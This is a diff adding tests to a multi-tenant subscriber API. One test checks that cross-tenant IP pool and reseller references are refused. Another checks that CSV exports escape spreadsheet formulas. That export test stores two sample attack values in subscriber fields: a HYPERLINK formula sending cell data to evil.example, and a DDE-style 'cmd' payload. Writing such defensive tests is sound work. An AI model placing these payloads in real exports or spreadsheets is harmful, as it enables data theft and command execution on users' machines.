@@ -69,3 +69,61 @@ describe("subscriber and plan isolation", () => {
     ).toBe(400);
   });
 });
+
+describe("stored references stay inside the tenant", () => {
+  it("refuses another tenant's or a made-up pool and reseller id, on create and on change, storing nothing", async () => {
+    const poolB = (await as(b, "POST", "/api/ip-pools", { name: "B pool", cidr: "10.77.0.0/29" })).body.pool.id;
+    const resellerB = (
+      await as(b, "POST", "/api/resellers", { name: "B reseller", email: "r@b-refs.example", password: "reseller-pw-1" })
+    ).body.reseller.id;
+    const random = "7f0c6a55-0b4e-4a8e-9d59-3c1e0f6b2a11";
+    for (const [field, id, message] of [
+      ["ipPoolId", poolB, "ipPoolId: no such IP pool"],
+      ["ipPoolId", random, "ipPoolId: no such IP pool"],
+      ["resellerId", resellerB, "resellerId: no such reseller"],
+      ["resellerId", random, "resellerId: no such reseller"],
+    ] as const) {
+      const res = await as(a, "POST", "/api/subscribers", {
+        username: `ref-${field}-${id.slice(0, 4)}`,
+        password: "pass1234",
+        planId: planA,
+        [field]: id,
+      });
+      expect(res.status, `${field}=${id}`).toBe(400);
+      expect(res.body.error).toMatchObject({ code: "validation_error", message });
+    }
+    const names = (await as(a, "GET", "/api/subscribers?search=ref-")).body.items;
+    expect(names).toEqual([]);
+    for (const id of [poolB, random]) {
+      const res = await as(a, "PATCH", `/api/subscribers/${subA.id}`, { ipPoolId: id });
+      expect(res.status).toBe(400);
+      expect(res.body.error.message).toBe("ipPoolId: no such IP pool");
+    }
+    expect((await as(a, "GET", `/api/subscribers/${subA.id}`)).body.subscriber.ipPoolId).toBeNull();
+    const poolA = (await as(a, "POST", "/api/ip-pools", { name: "A pool", cidr: "10.78.0.0/29" })).body.pool.id;
+    expect((await as(a, "PATCH", `/api/subscribers/${subA.id}`, { ipPoolId: poolA })).status).toBe(200);
+    expect((await as(a, "PATCH", `/api/subscribers/${subA.id}`, { ipPoolId: null })).status).toBe(200);
+  });
+});
+
+describe("exports", () => {
+  it("never hands a spreadsheet a live formula from a subscriber's fields", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const notes = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const created = await as(a, "POST", "/api/subscribers", {
+      username: "formula-user",
+      password: "pass1234",
+      planId: planA,
+      fullName: formula,
+      notes,
+      phone: "+254700000001",
+    });
+    expect(created.status).toBe(201);
+    const csv = String((await as(a, "GET", "/api/subscribers/export.csv")).body);
+    const line = csv.split("\n").find((l) => l.startsWith("formula-user,")) ?? "";
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(line).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(line).toContain(",+254700000001,");
+    expect(line).not.toMatch(/,=|,"=|,@|,"@/);
+  });
+});
